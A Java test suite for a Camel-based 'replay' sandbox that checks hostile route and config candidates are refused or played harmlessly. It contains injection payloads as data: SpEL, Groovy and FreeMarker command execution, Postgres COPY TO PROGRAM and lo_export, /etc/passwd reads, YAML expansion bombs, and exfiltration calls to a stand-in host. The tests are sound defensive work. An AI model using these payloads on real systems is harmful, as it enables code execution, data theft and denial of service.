package dev.switchboard.carrier.replay;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import dev.switchboard.ApiTest;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.PrintStream;
import java.io.RandomAccessFile;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.regex.Pattern;
import org.assertj.core.api.SoftAssertions;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;
import org.springframework.beans.factory.BeanFactory;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.beans.factory.annotation.Value;
import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;
import org.springframework.util.FileSystemUtils;

/**
 * Candidates that would let something out, or leave something behind, on purpose or by accident: each is refused in words, or played
 * with nothing sent and nothing kept, and the service goes on.
 */
@ExtendWith(OutputCaptureExtension.class)
class HostileCandidatesTest extends ApiTest {

    private static final String FLEET = "canary words about wrapping a fleet of ten trucks, please send a quote";

    @Autowired
    private BeanFactory beans;

    @Value("${switchboard.home}")
    private Path home;

    @TempDir
    private Path elsewhere;

    private final AtomicInteger visitors = new AtomicInteger();
    private ServerSocket outside;
    private UUID organization;
    private UUID bystander;
    private Path candidate;
    private String out = "";
    private String err = "";

    @BeforeEach
    void setUp() throws IOException {
        outside = new ServerSocket(0, 50, InetAddress.getLoopbackAddress());
        Thread door = new Thread(this::welcome, "outside");
        door.setDaemon(true);
        door.start();
        organization = organization();
        bystander = organization();
        storeAccount(organization, freshSid("AC"), "canary-hostile-token");
        addNumber(organization);
        assertThat(owner(organization)
                        .put("/api/phone-settings", "{\"alertPhoneNumber\": \"+14055550177\"}")
                        .status())
                .isIn(200, 201);
        for (String words : List.of(FLEET, "what are your opening hours on saturday")) {
            DATABASE.sql("""
                            INSERT INTO phone_calls (organization_id, account_sid, twilio_call_sid, caller_phone, called_phone, status, transcript, ended_at)
                            VALUES (?, 'AC0', ?, '+14055550123', ?, 'completed', ?, now())""")
                    .params(organization, freshSid("CA"), numberOf(organization), words)
                    .update();
        }
        candidate = home.resolve("candidate-" + organization);
        await().pollDelay(Duration.ofMillis(600)).until(() -> true); // whatever making the organizations had to do
    }

    private void welcome() {
        while (!outside.isClosed()) {
            try {
                outside.accept().close();
                visitors.incrementAndGet();
            } catch (IOException closed) {
                return;
            }
        }
    }

    @AfterEach
    void removeCandidate() throws IOException {
        outside.close();
        FileSystemUtils.deleteRecursively(candidate);
    }

    private String filled(String text) {
        return text.replace("OUTSIDE", "127.0.0.1:" + outside.getLocalPort())
                .replace("ELSEWHERE", elsewhere.toString())
                .replace("BYSTANDER", bystander.toString());
    }

    /** A candidate with steps before all others of a route that each alert goes through. */
    private void steps(String steps) throws IOException {
        FileSystemUtils.deleteRecursively(candidate);
        FileSystemUtils.copyRecursively(home.resolve("routes"), candidate.resolve("routes"));
        Path file = candidate.resolve("routes/messages/alert.yaml");
        String text = Files.readString(file);
        String head = "      steps:\n";
        assertThat(text).contains(head);
        Files.writeString(file, text.replace(head, head + filled(steps).indent(8)));
    }

    private int replay() {
        ByteArrayOutputStream said = new ByteArrayOutputStream();
        ByteArrayOutputStream complained = new ByteArrayOutputStream();
        String[] words = {"--rules", "--with", candidate.toString(), "--organization", organization.toString()};
        try {
            return ReplayCommand.run(beans, ReplayOptions.of(words), print(said), print(complained));
        } finally {
            out = said.toString(StandardCharsets.UTF_8);
            err = complained.toString(StandardCharsets.UTF_8);
        }
    }

    private static PrintStream print(ByteArrayOutputStream bytes) {
        return new PrintStream(bytes, true, StandardCharsets.UTF_8);
    }

    private Remains remains() {
        return Remains.of(DATABASE, home, organization, bystander);
    }

    /** Nothing was sent, and nothing stays. */
    private void assertNothingBut(Remains before, String why, CapturedOutput log) {
        before.assertNothingBut(remains(), why);
        assertThat(visitors).as(why).hasValue(0);
        assertThat(elsewhere).as(why).isEmptyDirectory();
        assertThat(carrier().getAllServeEvents())
                .as(why)
                .noneMatch(event -> event.getRequest().getUrl().contains("leak")
                        || event.getRequest().getBodyAsString().contains("canary"));
        assertThat(log.getAll()).as(why).doesNotContain("canary words");
    }

    /** @param cases steps, and what is said of them: a refusal begins with "!", anything else is a part of the report */
    private void tryEach(Map<String, String> cases, CapturedOutput log) {
        SoftAssertions all = new SoftAssertions();
        cases.forEach((steps, said) -> all.check(() -> {
            steps(steps);
            Remains before = remains();
            int code = replay();
            String whole = steps + "\n" + out + err;
            if (said.startsWith("!")) {
                assertThat(err).as(whole).contains(said.substring(1));
                assertThat(code).as(whole).isEqualTo(1);
            } else {
                assertThat(code).as(whole).isZero();
                assertThat(out)
                        .as(whole)
                        .contains("2 calls and 0 texts were played.")
                        .contains(said);
            }
            assertNothingBut(before, whole, log);
        }));
        all.assertAll();
    }

    @Test
    @Timeout(200)
    void doorsAreClosed(CapturedOutput log) throws IOException {
        StringBuilder steps = new StringBuilder();
        for (String uri : List.of(
                "http://OUTSIDE/leak",
                "https://OUTSIDE/leak?connectTimeout=100",
                "twilio:message/create",
                "kafka:leak?brokers=OUTSIDE",
                "smtp:OUTSIDE?to=x@example.com",
                "file:ELSEWHERE/out",
                "rest:get:leak?host=OUTSIDE&producerComponentName=http",
                "seda:leak",
                "controlbus:route?routeId=current&action=stop",
                "micrometer:counter:leak",
                "jdbc:dataSource?resetAutoCommit=false",
                "sql:COMMIT?dataSource=#dataSource",
                "sql:SET LOCAL session_replication_role = replica?dataSource=#dataSource",
                "sql:select set_config('app.organization_id', 'BYSTANDER', false)?dataSource=#dataSource",
                "sql:select dblink('dbname=postgres', 'CREATE TABLE canary()')?dataSource=#dataSource",
                "sql:COPY organizations TO PROGRAM 'cat > ELSEWHERE/ran'?dataSource=#dataSource",
                "sql:select lo_export(lo_create(0), 'ELSEWHERE/ran')?dataSource=#dataSource",
                "sql:select nextval('events_position_seq')?dataSource=#dataSource",
                "sql:select pg_advisory_lock(424242)?dataSource=#dataSource",
                "sql:NOTIFY canary?dataSource=#dataSource")) {
            steps.append("- doTry:\n    steps: [{to: \"" + uri + "\"}, {wireTap: {uri: \"" + uri + "\"}}]\n");
            steps.append("    doCatch: [{exception: [java.lang.Exception], steps: [{log: closed}]}]\n");
        }
        steps.append("""
                - toD: "http://OUTSIDE/${body.class.simpleName}"
                - enrich: {simple: "http://OUTSIDE/leak"}
                - recipientList: {simple: "http://OUTSIDE/a,ftp:OUTSIDE", parallelProcessing: true, ignoreInvalidEndpoints: true}
                - routingSlip: {simple: "http://OUTSIDE/a,kafka:leak?brokers=OUTSIDE"}
                - log: {message: "${body.transcript} canary words ${body}"}
                - to: "log:leak?showAll=true&level=ERROR"
                - setBody: {constant: "UPDATE organizations SET name = 'canary words' WHERE id = 'BYSTANDER'; COMMIT"}
                - to: "jdbc:dataSource?resetAutoCommit=false"
                - log: "${body}"
                - stop: {}
                """);
        steps(steps.toString());
        Remains before = remains();

        assertThat(replay()).as(err).isZero();

        assertThat(out)
                .contains("2 calls and 0 texts were played.")
                .contains(
                        "would go out by controlbus, file, ftp, http, https, jdbc, kafka, micrometer, rest, seda, smtp, sql");
        assertNothingBut(before, out, log);
    }

    /** Each in a route of its own, which nothing comes by: what is refused is never played. */
    @Test
    @Timeout(200)
    void stepsThatReachOutAreRefusedWithTheirLines(CapturedOutput log) throws IOException {
        Map<String, String> cases = new LinkedHashMap<>();
        String nothing = "a sandbox loads nothing from ";
        cases.put("setBody: {constant: \"resource:http://OUTSIDE/leak\"}", nothing + "http:");
        cases.put("setBody: {simple: \"resource:https://OUTSIDE/leak\"}", nothing + "https:");
        cases.put("setBody: {constant: \"resource:file:/etc/passwd\"}", nothing + "file:");
        cases.put("to: \"xslt:http://OUTSIDE/leak.xsl\"", nothing + "http:");
        cases.put("to: \"exec:touch?args=ELSEWHERE/ran\"", "No endpoint could be found for: exec");
        cases.put("to: \"ftp:OUTSIDE/leak\"", "No endpoint could be found for: ftp");
        cases.put("to: \"freemarker:http://OUTSIDE/leak.ftl\"", "No endpoint could be found for: freemarker");
        String java = "an expression of a sandbox can't reach Camel or Java's classes";
        cases.put("setBody: {simple: \"${bean:type:java.lang.System?method=gc}\"}", java);
        cases.put("setBody: {simple: \"${type:java.io.File.separator}\"}", java);
        cases.put("setBody: {simple: \"${camelContext.stop}\"}", java);
        cases.put("setBody: {simple: \"${exchange.context.stop}\"}", java);
        cases.put("setBody: {simple: \"${body.class.classLoader}\"}", java);
        cases.put("setBody: {simple: \"${body.getClass().forName('java.lang.Runtime')}\"}", java);
        String spel = "the language spel isn't spoken in a sandbox";
        String runs = "\"#{T(java.lang.Runtime).getRuntime().exec('touch ELSEWHERE/ran')}\"";
        cases.put("setBody: {language: {language: spel, expression: " + runs + "}}", spel);
        cases.put("setBody: {spel: {expression: " + runs + "}}", spel);
        cases.put("script: {spel: {expression: " + runs + "}}", spel);
        cases.put("script: {groovy: {expression: \"'touch ELSEWHERE/ran'.execute()\"}}", "groovy");
        cases.put("convertBodyTo: {type: java.net.URL}", "the class java.net.URL is out of reach in a sandbox");
        String later = "nothing is done later in a sandbox, as ";
        cases.put("delay: {constant: \"3600000\", asyncDelayed: \"false\"}", later + "delay does it");
        cases.put("throttle: {constant: \"1\", timePeriodMillis: \"3600000\"}", later + "throttle does it");
        cases.put(
                "resequence: {simple: \"${body}\", batchConfig: {batchTimeout: \"100\"}, steps: [{to: \"direct:inbox\"}]}",
                later + "resequence does it");
        cases.put(
                "onCompletion: {steps: [{to: \"http://OUTSIDE/leak\"}]}", "'onCompletion', and there is no such step");
        FileSystemUtils.copyRecursively(home.resolve("routes"), candidate.resolve("routes"));
        int number = 100;
        for (String step : cases.keySet()) {
            number++;
            write(
                    "routes/jobs/hostile-" + number + ".yaml",
                    "# Leads out.\n- route:\n    id: hostile-" + number + "\n    from:\n      uri: direct:hostile-"
                            + number + "\n      steps:\n        - " + step + "\n");
        }
        Remains before = remains();

        assertThat(replay()).as(out).isEqualTo(1);

        SoftAssertions all = new SoftAssertions();
        number = 100;
        for (Map.Entry<String, String> each : cases.entrySet()) {
            number++;
            all.assertThat(err)
                    .as(filled(each.getKey()))
                    .containsPattern(
                            "routes/jobs/hostile-" + number + ".yaml:[0-9]+: .*" + Pattern.quote(each.getValue()));
        }
        all.assertAll();
        assertNothingBut(before, err, log);
    }

    @Test
    @Timeout(200)
    void beansAndClassesThatLeadOutAreOutOfReach(CapturedOutput log) {
        Map<String, String> cases = new LinkedHashMap<>();
        cases.put(
                "- bean: {ref: dataSource, method: getConnection}\n",
                "!the bean dataSource is out of reach in a sandbox");
        cases.put("- to: \"bean:organizationScope?method=nowhere\"\n", "!is out of reach in a sandbox");
        cases.put(
                "- wireTap: {uri: \"direct:inbox\", executorService: \"#applicationTaskExecutor\"}\n",
                "!ExecutorServiceRef #applicationTaskExecutor not found");
        cases.put(
                "- bean: {beanType: java.lang.Runtime, method: getRuntime}\n",
                "!the class java.lang.Runtime is out of reach in a sandbox");
        cases.put(
                "- to: \"class:java.lang.System?method=exit(0)\"\n",
                "!the class java.lang.System is out of reach in a sandbox");
        cases.put("- to: \"json-validator:http://OUTSIDE/leak.json\"\n", "would fail in call.classified");
        cases.put("- to: \"language:spel:1\"\n", "!the language spel isn't spoken in a sandbox");
        cases.put(
                "- aggregate: {correlationExpression: {constant: {expression: \"true\"}}, aggregationStrategy: \"#class:org.apache.camel.processor.aggregate.UseLatestAggregationStrategy\", completionTimeout: \"1000\", steps: [{to: \"direct:inbox\"}]}\n",
                "!nothing is done later in a sandbox");
        cases.put("- to: \"language:simple:1\"\n", "would go out by language");
        cases.put(
                "- toD: \"language:spel?script=RAW(#{T(java.lang.System).setProperty('canary','ran')})\"\n",
                "2 calls and 0 texts");
        cases.put(
                "- setBody: {simple: \"${bean:workerDataSource?method=getConnection}\"}\n",
                "!the bean workerDataSource is out of reach in a sandbox");
        cases.put(
                "- setVariable: {name: x, simple: \"${bean:organizationScope?method=nowhere}\"}\n",
                "!the bean organizationScope is out of reach in a sandbox");
        for (String step : List.of(
                "toD: \"class:java.lang.System?method=gc\"",
                "setBody: {simple: \"${ref:dataSource}\"}",
                "pollEnrich: {simple: \"file:ELSEWHERE?noop=true\", timeout: \"100\"}")) {
            cases.put("- " + step + "\n", "would fail in call.classified");
        }
        cases.put(
                "- threads: {poolSize: \"2\"}\n"
                        + "- circuitBreaker: {resilience4jConfiguration: {timeoutEnabled: \"true\"}, steps: [{to: \"direct:inbox\"}]}\n",
                "0 would be different");
        tryEach(cases, log);
        assertThat(System.getProperty("canary")).isNull();
    }

    @Test
    @Timeout(200)
    void stepsThatHaveNoEnd(CapturedOutput log) {
        Map<String, String> cases = new LinkedHashMap<>();
        String loop = "loop: {doWhile: \"true\", simple: \"${body} != null\", steps: [STEP]}";
        String inner = "{" + loop.replace("STEP", "{log: again}") + "}";
        String endless = "would fail in call.classified: EndlessException";
        cases.put("- " + loop.replace("STEP", "{" + loop.replace("STEP", inner) + "}") + "\n", endless);
        cases.put(
                "- "
                        + loop.replace(
                                "STEP",
                                "{doTry: {steps: [" + inner
                                        + "], doCatch: [{exception: [java.lang.Exception], steps: [{log: caught}]}]}}")
                        + "\n",
                "2 calls and 0 texts");
        cases.put(
                "- multicast: {parallelProcessing: \"true\", steps: [{to: \"direct:alert\"}, {to: \"direct:alert\"}]}\n",
                endless);
        cases.put("- wireTap: {uri: \"direct:alert\"}\n", "2 calls and 0 texts");
        cases.put("- dynamicRouter: {constant: \"direct:inbox\"}\n", endless);
        cases.put("- dynamicRouter: {simple: \"http://OUTSIDE/a\"}\n", endless);
        cases.put("- to: \"direct:alert\"\n", endless);
        tryEach(cases, log);
    }

    /** Puts a candidate together. */
    @FunctionalInterface
    private interface Makes {
        void make() throws Exception;
    }

    private Path file(String name) throws IOException {
        Path file = candidate.resolve(name);
        Files.createDirectories(file.getParent());
        Files.deleteIfExists(file);
        return file;
    }

    private void write(String name, String text) throws IOException {
        Files.writeString(file(name), filled(text));
    }

    private void change(String name, String from, String to) throws IOException {
        String text = Files.readString(home.resolve(name));
        assertThat(text).contains(from);
        write(name, text.replace(from, to));
    }

    private void tryFolder(SoftAssertions all, String said, Makes candidateOf) {
        all.check(() -> {
            FileSystemUtils.deleteRecursively(candidate);
            candidateOf.make();
            Remains before = remains();
            int code = replay();
            assertThat(out + err)
                    .as(out + err)
                    .contains(said)
                    .doesNotContain("canary")
                    .doesNotContain("root:x:0");
            assertThat(code).as(out + err).isEqualTo(out.contains("would be different") ? 0 : 1);
            before.assertNothingBut(remains(), said);
            assertThat(visitors).as(said).hasValue(0);
        });
    }

    @Test
    @Timeout(200)
    void foldersThatAreNotWhatTheySeem() {
        SoftAssertions all = new SoftAssertions();
        tryFolder(
                all,
                "config/rules/keywords.yml:0: is no file",
                () -> Files.createSymbolicLink(file("config/rules/keywords.yml"), Path.of("/dev/zero")));
        tryFolder(all, "config/rules/keywords.yml:0: is no file", () -> {
            Path pipe = file("config/rules/keywords.yml");
            assertThat(new ProcessBuilder("mkfifo", pipe.toString()).start().waitFor())
                    .isZero();
        });
        tryFolder(
                all,
                "config/rules/keywords.yml:",
                () -> Files.createSymbolicLink(file("config/rules/keywords.yml"), Path.of("/etc/passwd")));
        tryFolder(all, "0 would be different", () -> Files.createSymbolicLink(file("config"), home.resolve("config")));
        tryFolder(all, "0 would be different", () -> {
            steps("");
            Files.createSymbolicLink(candidate.resolve("routes/again"), candidate.resolve("routes"));
        });
        tryFolder(
                all,
                "config/scoring.yml:0: larger than 1000000 bytes",
                () -> write("config/scoring.yml", "#".repeat(5_000_000)));
        tryFolder(all, "nothing reads config/rules/notes.bin", () -> {
            try (RandomAccessFile huge =
                    new RandomAccessFile(file("config/rules/notes.bin").toFile(), "rw")) {
                huge.setLength(20_000_000_000L);
            }
        });
        for (String name : List.of(
                "config/scoring.yml",
                "config/rules/keywords.yml",
                "config/alarms.yml",
                "config/dialogue/take-details.yml",
                "config/schemas/classification.json",
                "config/tools/end_call.json")) {
            tryFolder(all, name + ":", () -> write(name, "[".repeat(400_000)));
            tryFolder(all, name + ":", () -> write(name, "{\"a\":".repeat(100_000)));
            tryFolder(all, name + ":", () -> write(name, "a: &a [x,x,x,x,x,x,x,x,x]\n" + bomb()));
        }
        tryFolder(all, "routes/messages/alert.yaml:", () -> {
            steps("");
            write("routes/messages/alert.yaml", "# deep\n" + "[".repeat(400_000));
        });
        tryFolder(all, "routes/messages/alert.yaml:", () -> {
            steps("");
            write("routes/messages/alert.yaml", "# many\na: &a [x,x,x,x,x,x,x,x,x]\n" + bomb());
        });
        tryFolder(all, "routes/messages/alert.yaml:0: not UTF-8", () -> {
            steps("");
            Files.write(file("routes/messages/alert.yaml"), new byte[] {'#', (byte) 0xC3, '\n'});
        });
        tryFolder(all, "is missing", () -> Files.createDirectories(candidate.resolve("routes")));
        tryFolder(all, "holds neither routes/ nor config/", () -> write("routes", "- route:\n"));
        tryFolder(
                all,
                "config/schemas/classification.json:",
                () -> change(
                        "config/schemas/classification.json",
                        "\"properties\": {",
                        "\"allOf\": [{\"$ref\": \"http://OUTSIDE/leak.json\"}], \"properties\": {"));
        tryFolder(all, "config/tools/end_call.json:", () -> {
            FileSystemUtils.copyRecursively(home.resolve("config/tools"), candidate.resolve("config/tools"));
            change(
                    "config/tools/end_call.json",
                    "\"type\": \"object\"",
                    "\"type\": \"object\", \"allOf\": [{\"$ref\": \"http://OUTSIDE/leak.json\"}]");
        });
        tryFolder(
                all,
                "config/messages/alert.ftl:1: can't be used in a template: <#include",
                () -> write("config/messages/alert.ftl", "<#include \"http://OUTSIDE/leak\">"));
        tryFolder(
                all,
                "config/messages/alert.ftl:1: can't be used in a template: ?new",
                () -> write("config/messages/alert.ftl", "${\"freemarker.template.utility.Execute\"?new()(\"id\")}"));
        tryFolder(
                all,
                "config/application.yml is read at start",
                () -> write("config/application.yml", "spring.config.import: http://OUTSIDE/leak.yml\n"));
        tryFolder(all, "0 would be different", () -> {
            steps("");
            String from = "# Begins by itself.\n- route:\n    id: %s\n    from:\n      uri: \"%s\"\n      steps:\n"
                    + "        - to: \"http://OUTSIDE/leak\"\n";
            write("routes/jobs/leak-timer.yaml", from.formatted("leak-timer", "timer:leak?period=10"));
            write("routes/jobs/leak-clock.yaml", from.formatted("leak-clock", "scheduler:leak?delay=10"));
            write("routes/jobs/leak-rest.yaml", from.formatted("leak-rest", "rest:get:leak"));
            write("routes/jobs/leak-http.yaml", from.formatted("leak-http", "platform-http:/leak"));
            write("routes/jobs/leak-file.yaml", from.formatted("leak-file", "file:ELSEWHERE/in"));
            write("routes/jobs/leak-seda.yaml", from.formatted("leak-seda", "seda:leak"));
        });
        all.check(() -> assertThat(ask("GET", "/leak", null).status()).isNotEqualTo(200));
        all.check(() -> assertThat(elsewhere).isEmptyDirectory());
        for (String folder : List.of(
                candidate + "/nowhere",
                candidate + "/../..",
                "\0",
                home.resolve("routes/messages/alert.yaml").toString())) {
            ByteArrayOutputStream complained = new ByteArrayOutputStream();
            int code = ReplayCommand.run(
                    HostileCandidatesTest.class,
                    new String[] {"--with", folder},
                    print(new ByteArrayOutputStream()),
                    print(complained));
            all.check(() -> assertThat(code).as(folder).isIn(1, 2));
            all.check(() -> assertThat(complained.toString(StandardCharsets.UTF_8))
                    .as(folder)
                    .startsWith("replay: ")
                    .doesNotContain("Exception"));
        }
        all.assertAll();
    }

    private static String bomb() {
        StringBuilder lines = new StringBuilder();
        for (char each = 'b'; each < 'k'; each++) {
            lines.append(each)
                    .append(": &")
                    .append(each)
                    .append(" [")
                    .append("*")
                    .append((char) (each - 1));
            lines.append((",*" + (char) (each - 1)).repeat(8)).append("]\n");
        }
        return lines.toString();
    }
}
